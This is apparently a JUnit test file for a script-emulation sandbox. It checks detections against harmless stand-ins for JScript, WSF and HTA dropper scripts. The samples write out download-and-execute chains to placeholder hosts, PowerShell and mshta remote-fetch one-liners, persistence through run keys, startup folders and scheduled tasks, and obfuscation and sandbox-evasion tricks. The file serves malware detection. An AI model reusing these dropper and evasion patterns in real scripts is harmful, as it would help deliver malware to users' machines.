package dev.peekaboo.emulation.script;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.stream.Stream;

/** Harmless scripts in the styles of mailed JScript droppers, and what they do. */
class JScriptTest {
    static final String DOWNLOADER =
            """
            var x = new ActiveXObject("MSXML2.XMLHTTP");
            x.open("GET", "http://files.example/a.exe", false);
            x.send();
            if (x.status == 200) {
                var s = new ActiveXObject("ADODB.Stream");
                s.open(); s.type = 1; s.write(x.responseBody); s.position = 0;
                var p = new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") + "\\\\a.exe";
                s.saveToFile(p, 2); s.close();
                new ActiveXObject("WScript.Shell").Run(p, 0, false);
            }
            """;

    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, Language language, String text, String... expected) {
        Sample(String name, String text, String... expected) {
            this(name, Language.JSCRIPT, text, expected);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Sample> bad_scripts_show_what_they_do() {
        return Stream.concat(
                Stream.concat(downloads(), starts()), Stream.concat(quirks(), markup()));
    }

    private static Stream<Sample> downloads() {
        return Stream.of(
                new Sample("plain downloader", DOWNLOADER, "download_and_run"),
                new Sample(
                        "downloader over several hosts",
                        """
                    var hosts = ["one.example", "two.example"], sh = WScript.CreateObject("WScript.Shell");
                    for (var i = 0; i < hosts.length; i++) {
                      try {
                        var x = WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0");
                        x.open("GET", "http://" + hosts[i] + "/x", false); x.send();
                        var s = WScript.CreateObject("ADODB.Stream");
                        s.Type = 1; s.Open(); s.Write(x.ResponseBody);
                        if (s.Size > 100000) { s.SaveToFile(sh.SpecialFolders("Startup") + "\\\\u.exe", 2); sh.Run("u.exe"); break; }
                      } catch (e) {}
                    }""",
                        "script_writes_download_to_program",
                        "persistence_startup"),
                new Sample(
                        "eval of what was fetched",
                        """
                    var x = new ActiveXObject("Microsoft.XMLHTTP");
                    x.open("GET", "http://files.example/s", 0); x.send(null); eval(x.responseText);""",
                        "runs_downloaded_code"),
                new Sample(
                        "Function of what was fetched",
                        """
                    var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
                    x.Open("POST", "http://files.example/s", false); x.Send("id=1"); new Function(x.ResponseText)();""",
                        "runs_downloaded_code"),
                new Sample(
                        "eval by another name",
                        """
                    var x = new ActiveXObject("Microsoft.XMLHTTP"), e = this["ev" + "al"];
                    x.open("GET", "http://files.example/s", 0); x.send(); e(x["response" + "Text"]);""",
                        "runs_downloaded_code"),
                new Sample(
                        "asynchronous request",
                        """
                    var x = new ActiveXObject("Microsoft.XMLHTTP");
                    x.onreadystatechange = function() { if (x.readyState == 4) eval(x.responseText); };
                    x.open("GET", "http://files.example/s", true); x.send();""",
                        "runs_downloaded_code"),
                new Sample(
                        "script control",
                        """
                    var x = new ActiveXObject("Microsoft.XMLHTTP");
                    x.open("GET", "http://files.example/s", 0); x.send();
                    var c = new ActiveXObject("MSScriptControl.ScriptControl"); c.Language = "JScript"; c.AddCode(x.responseText);""",
                        "runs_downloaded_code"),
                new Sample(
                        "fetched text through a file",
                        """
                    var f = new ActiveXObject("Scripting.FileSystemObject"), x = new ActiveXObject("Microsoft.XMLHTTP");
                    x.open("GET", "http://files.example/s", 0); x.send();
                    var t = f.CreateTextFile(f.GetSpecialFolder(2) + "\\\\a.js", true); t.Write(x.responseText); t.Close();
                    new ActiveXObject("Shell.Application").ShellExecute("wscript.exe", f.GetSpecialFolder(2) + "\\\\a.js", "", "open", 0);""",
                        "download_and_run"),
                new Sample(
                        "document with script",
                        """
                    var d = new ActiveXObject("MSXML2.DOMDocument.6.0"); d.async = false;
                    d.load("http://files.example/a.xsl"); d.transformNode(d);""",
                        "runs_downloaded_code"),
                new Sample(
                        "moniker",
                        "GetObject('script:http://files.example/a.sct');",
                        "runs_remote_script"));
    }

    private static Stream<Sample> starts() {
        return Stream.of(
                new Sample(
                        "PowerShell",
                        "new ActiveXObject('WScript.Shell').Run('powershell -w hidden iex(irm http://files.example/a)', 0);",
                        "script_starts_interpreter",
                        "runs_downloaded_code"),
                new Sample(
                        "cmd with carets",
                        "new ActiveXObject('WScript.Shell').Run('cmd /c p^owersh^ell -c calc', 0);",
                        "script_starts_interpreter"),
                new Sample(
                        "Exec",
                        "new ActiveXObject('WScript.Shell').Exec('mshta http://files.example/a');",
                        "script_starts_interpreter",
                        "runs_remote_script"),
                new Sample(
                        "ShellExecute",
                        "new ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c calc', '', 'open', 0);",
                        "script_starts_interpreter"),
                new Sample(
                        "WMI",
                        "GetObject('winmgmts:root\\\\cimv2').Get('Win32_Process').Create('powershell calc');",
                        "wmi_process"),
                new Sample(
                        "WMI by name",
                        "GetObject('winmgmts:root\\\\cimv2:Win32_Process').Create('cmd /c calc', null, null, null);",
                        "wmi_process"),
                new Sample(
                        "class id",
                        "GetObject('new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}').Run('cmd /c calc');",
                        "script_starts_interpreter"),
                new Sample(
                        "explorer window",
                        "GetObject('new:9BA05972-F6A8-11CF-A442-00A0C90A8F39').item().Document.Application.ShellExecute('cmd.exe', '/c calc', '', '', 0);",
                        "script_starts_interpreter"),
                new Sample(
                        "run key",
                        "new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u', WScript.ScriptFullName, 'REG_SZ');",
                        "persistence_autorun"),
                new Sample(
                        "copies itself to startup",
                        "var f = new ActiveXObject('Scripting.FileSystemObject'); f.CopyFile(WScript.ScriptFullName, new ActiveXObject('WScript.Shell').SpecialFolders('Startup') + '\\\\');",
                        "persistence_startup"),
                new Sample(
                        "link in startup",
                        "var s = new ActiveXObject('WScript.Shell'), l = s.CreateShortcut(s.SpecialFolders('Startup') + '\\\\a.lnk'); l.TargetPath = 'calc.exe'; l.Save();",
                        "persistence_startup"),
                new Sample(
                        "scheduled task",
                        """
                    var s = new ActiveXObject("Schedule.Service"); s.Connect();
                    var t = s.NewTask(0); t.RegistrationInfo.Description = "x"; t.Settings.Enabled = true;
                    var a = t.Actions.Create(0); a.Path = "mshta"; a.Arguments = "http://files.example/a";
                    s.GetFolder("\\\\").RegisterTaskDefinition("Update", t, 6, null, null, 3);""",
                        "scheduled_task"),
                new Sample(
                        "installs from the web",
                        "var i = new ActiveXObject('WindowsInstaller.Installer'); i.UILevel = 2; i.InstallProduct('http://files.example/a.msi');",
                        "script_starts_interpreter",
                        "runs_remote_script"),
                new Sample(
                        "writes a program from Base64",
                        """
                    var e = new ActiveXObject("MSXML2.DOMDocument").createElement("t"); e.dataType = "bin.base64"; e.text = "TVqQAAMAAAAEAAAA";
                    var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(e.nodeTypedValue); s.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe", 2);
                    new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\a.exe");""",
                        "script_writes_program",
                        "drops_and_runs"),
                new Sample(
                        "drops a batch file",
                        """
                    var f = new ActiveXObject("Scripting.FileSystemObject"), t = f.OpenTextFile("C:\\\\ProgramData\\\\a.bat", 2, true);
                    t.WriteLine("curl -o %TEMP%\\\\a.exe http://files.example/a.exe"); t.WriteLine("start %TEMP%\\\\a.exe"); t.Close();
                    new ActiveXObject("WScript.Shell").Run("C:\\\\ProgramData\\\\a.bat", 0);""",
                        "drops_and_runs",
                        "download_and_run"),
                new Sample(
                        "network share",
                        "new ActiveXObject('WScript.Shell').Run('\\\\\\\\files.example@80\\\\share\\\\a.exe');",
                        "runs_from_share"),
                new Sample(
                        "environment of the process",
                        "var s = new ActiveXObject('WScript.Shell'); s.Run(s.Environment('PROCESS')('ComSpec') + ' /c calc');",
                        "script_starts_interpreter"),
                new Sample(
                        "guard of the system variable",
                        "var s = new ActiveXObject('WScript.Shell'); if (s.Environment('SYSTEM')('ComSpec') == '%SystemRoot%\\\\system32\\\\cmd.exe') s.Run('cmd /c calc');",
                        "script_starts_interpreter"),
                new Sample(
                        "registry as key",
                        "var s = new ActiveXObject('WScript.Shell'), k = s.RegRead('HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\SystemRoot'); s.Run(k.charAt(3) == 'W' ? 'cmd /c calc' : 'x');",
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> quirks() {
        String run = "new ActiveXObject('WScript.Shell').Run('cmd /c calc');";
        return Stream.of(
                new Sample(
                        "conditional compilation",
                        "/*@cc_on @if (@_jscript_version >= 5) " + run + " @end @*/",
                        "script_starts_interpreter"),
                new Sample(
                        "comment end in a text",
                        "/*@cc_on var a = '*/'; " + run + " @*/",
                        "script_starts_interpreter"),
                new Sample(
                        "else of a condition",
                        "/*@cc_on @if (@_mac) x(); @else " + run + " @end @*/",
                        "script_starts_interpreter"),
                new Sample(
                        "set constants",
                        "/*@cc_on @set @n = 5 @*/ if (@n == 5) " + run,
                        "script_starts_interpreter"),
                new Sample(
                        "function named like a member",
                        "function String.prototype.go() { " + run + " } 'x'.go();",
                        "script_starts_interpreter"),
                new Sample(
                        "member function in an expression",
                        "(function Object.prototype.zz() { return 'cmd /c calc'; }, 50); new ActiveXObject('WScript.Shell').Run({}.zz());",
                        "script_starts_interpreter"),
                new Sample(
                        "methods without parentheses",
                        "var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.WriteText('cmd /c calc'); s.Position = 0; new ActiveXObject('WScript.Shell').Run(s.ReadText);",
                        "script_starts_interpreter"),
                new Sample(
                        "any case",
                        "new ActiveXObject('wscript.SHELL')['rUN']('cmd /c calc');",
                        "script_starts_interpreter"),
                new Sample(
                        "waits by the clock",
                        "var t = new Date().getTime(); while (new Date().getTime() - t < 60000); "
                                + run,
                        "script_starts_interpreter"),
                new Sample("sleeps", "WScript.Sleep(600000); " + run, "script_starts_interpreter"),
                new Sample(
                        "year guard",
                        "if (new Date().getYear() == 2026) " + run,
                        "script_starts_interpreter"),
                new Sample(
                        "error number",
                        "try { new ActiveXObject('no such'); } catch (e) { if (e.number < 0) "
                                + run
                                + " }",
                        "script_starts_interpreter"),
                new Sample(
                        "own errors",
                        "try { throw new Error(2, 'x'); } catch (e) { if (e.number == 2 && e.description == 'x') "
                                + run
                                + " }",
                        "script_starts_interpreter"),
                new Sample(
                        "enumerator",
                        "var q = GetObject('winmgmts:').ExecQuery('select * from Win32_OperatingSystem'); for (var e = new Enumerator(q); !e.atEnd(); e.moveNext()) if (e.item().Caption.indexOf('Windows') >= 0) "
                                + run,
                        "script_starts_interpreter"),
                new Sample(
                        "random branch",
                        "if (Math.random() < 2) " + run,
                        "script_starts_interpreter"),
                new Sample(
                        "only in German Windows",
                        "if (new Date().getHours() > 15) "
                                + run
                                + " else { new ActiveXObject('WScript.Shell').Environment('PROCESS')('x'); }",
                        "script_starts_interpreter"),
                new Sample(
                        "char codes",
                        "eval(String.fromCharCode(" + codes(run) + "));",
                        "script_starts_interpreter"),
                new Sample(
                        "unescape",
                        "eval(unescape('" + escaped(run) + "'));",
                        "script_starts_interpreter"),
                new Sample(
                        "array of letters, shuffled",
                        "var a = ['l','e','S','W','t','p','i','.','h','r','c']; var n = a[3]+a[2]+a[10]+a[9]+a[6]+a[5]+a[4]+a[7]+a[2]+a[8]+a[1]+a[0]+a[0]; new ActiveXObject(n).Run('cmd /c calc');",
                        "script_starts_interpreter"),
                new Sample(
                        "letters lost in noise",
                        "var s = 'cQmQdQ Q/QcQ QcQaQlQcQ'.split('Q').join(''); new ActiveXObject('WScript.Shell')['R' + 'un'](s);",
                        "script_starts_interpreter"),
                new Sample(
                        "reads its own text",
                        "var f = new ActiveXObject('Scripting.FileSystemObject').OpenTextFile(WScript.ScriptFullName, 1), t = f.ReadAll(); f.Close(); if (t.length > 10) "
                                + run,
                        "script_starts_interpreter"),
                new Sample(
                        "with",
                        "with (new ActiveXObject('WScript.Shell')) { Run('cmd /c calc'); }",
                        "script_starts_interpreter"),
                new Sample(
                        "dictionary",
                        "var d = new ActiveXObject('Scripting.Dictionary'); d.Add('a', 'cmd /c calc'); d.Item('b') = 1; new ActiveXObject('WScript.Shell').Run(d.Item('a'));",
                        "script_starts_interpreter"),
                new Sample(
                        "assignment to a call",
                        "var d = new ActiveXObject('Scripting.Dictionary'); d('a') = 'cmd /c calc'; new ActiveXObject('WScript.Shell').Run(d('a'));",
                        "script_starts_interpreter"),
                new Sample(
                        "replaces by a function",
                        "new ActiveXObject('WScript.Shell').Run('bnd /b balb'.replace(/b/g, function (m) { return 'c'; }).replace('cnd', 'cmd'));",
                        "script_starts_interpreter"),
                new Sample(
                        "encoded",
                        "#@~^MgAAAA==" + Encoder.encode(run) + "wA8AAA==^#~@",
                        "script_starts_interpreter"));
    }

    private static Stream<Sample> markup() {
        String run = "new ActiveXObject('WScript.Shell').Run('cmd /c calc');";
        return Stream.of(
                new Sample(
                        "WSF",
                        Language.WSF,
                        "<job id=\"a\"><script language=\"JScript\"><![CDATA["
                                + run
                                + "]]></script></job>",
                        "script_starts_interpreter"),
                new Sample(
                        "WSF of two scripts",
                        Language.WSF,
                        "<package><job><script language=\"JScript\">function go() {"
                                + run
                                + "}</script><script language='JScript'>go();</script></job></package>",
                        "script_starts_interpreter"),
                new Sample(
                        "WSF with an object",
                        Language.WSF,
                        "<job><object id=\"sh\" progid=\"WScript.Shell\"/><script"
                                + " language=\"JScript\">sh.Run('cmd /c calc');</script></job>",
                        "script_starts_interpreter"),
                new Sample(
                        "SCT",
                        Language.WSF,
                        "<?XML version=\"1.0\"?><scriptlet><registration progid=\"x\"><script language=\"JScript\"><![CDATA["
                                + run
                                + "]]></script></registration></scriptlet>",
                        "script_starts_interpreter"),
                new Sample(
                        "HTA",
                        Language.HTA,
                        "<html><head><hta:application showintaskbar=no><script>"
                                + run
                                + "window.close();</script></head></html>",
                        "script_starts_interpreter"),
                new Sample(
                        "HTA, onload",
                        Language.HTA,
                        "<html><script>function go() {"
                                + run
                                + "}</script><body onload=\"go()\"></body></html>",
                        "script_starts_interpreter"),
                new Sample(
                        "HTA, timer",
                        Language.HTA,
                        "<script>setTimeout(\"" + run + "\", 1000);</script>",
                        "script_starts_interpreter"),
                new Sample(
                        "HTA, written",
                        Language.HTA,
                        "<script>document.write(unescape('%3Cscript%3E') + \""
                                + run
                                + "\" + unescape('%3C/script%3E'));</script>",
                        "script_starts_interpreter"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void bad_scripts_show_what_they_do(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text());

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
        assertThat(Traces.isBad(report.findings())).isTrue();
    }

    static Stream<Sample> harmless_scripts_run_completely_and_are_not_bad() {
        return Stream.of(
                new Sample("arithmetic", "var s = 0; for (var i = 0; i < 1000; i++) s += i;"),
                new Sample("message", "WScript.Echo('Hello');"),
                new Sample(
                        "reads a setting",
                        "WScript.Echo(new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%USERNAME%'));"),
                new Sample(
                        "library",
                        "(function (root) { function Point(x) { this.x = x; } Point.prototype.move = function (d) { this.x += d; return this; }; root.Point = Point; })(this); new Point(1).move(2);"),
                new Sample("a browser's library", "window.jQuery = function () {};"),
                new Sample(
                        "regular expressions",
                        "'a-b-c'.replace(/-/g, '+').split('+').sort().join();"),
                new Sample("quits", "WScript.Quit(0);"),
                new Sample("own exception", "throw 'stop';"),
                new Sample("own mistake", "null.x();"),
                new Sample("a module", "import a from 'b'; export default a;"),
                new Sample(
                        "newer JavaScript",
                        "const f = (a) => `${a}!`; let [x, y] = [1, 2]; f(x + y);"),
                new Sample("empty", ""),
                new Sample(
                        "writes a list",
                        "var f = new ActiveXObject('Scripting.FileSystemObject'), t = f.CreateTextFile('C:\\\\list.txt'); t.WriteLine('a'); t.Close();"),
                new Sample("no script at all", Language.HTA, "<html><body>Hello</body></html>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void harmless_scripts_run_completely_and_are_not_bad(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text());

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    static Stream<Sample> what_could_not_be_run_is_never_complete() {
        return Stream.of(
                new Sample("syntax", "var = ;;;) {"),
                new Sample("class nobody knows", "new ActiveXObject('Vendor.Thing').Go();"),
                new Sample("member nobody knows", "new ActiveXObject('WScript.Shell').Fly();"),
                new Sample(
                        "wrong use of what Windows gives",
                        "new ActiveXObject('WScript.Shell').Popup('a').x.y();"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void what_could_not_be_run_is_never_complete(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text());

        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isNotEqualTo(Completeness.COMPLETE);
    }

    @Test
    void expressions_of_many_thousand_parts_are_run() {
        String run = "new ActiveXObject('WScript.Shell').Run('cmd /c calc');";
        String sum = "var s = " + "'a'+".repeat(20_000) + "'b';";
        String chain = "var n = 0;" + "if (n == 1) { n = 2; } else ".repeat(4_000) + "{}";

        for (String script : List.of(sum + run, chain + run))
            assertThat(Emulated.ids(Emulated.run(Language.JSCRIPT, script)))
                    .contains("script_starts_interpreter");
    }

    @Test
    void every_layer_is_kept() {
        EmulationReport report =
                Emulated.run(Language.JSCRIPT, "eval('eval(\"var layer = 1 + 2;\")');");

        assertThat(report.layers()).anyMatch(layer -> layer.text().equals("var layer = 1 + 2;"));
    }

    private static String codes(String code) {
        return code.chars()
                .mapToObj(String::valueOf)
                .collect(java.util.stream.Collectors.joining(","));
    }

    private static String escaped(String code) {
        return code.chars()
                .mapToObj("%%%02x"::formatted)
                .collect(java.util.stream.Collectors.joining());
    }
}
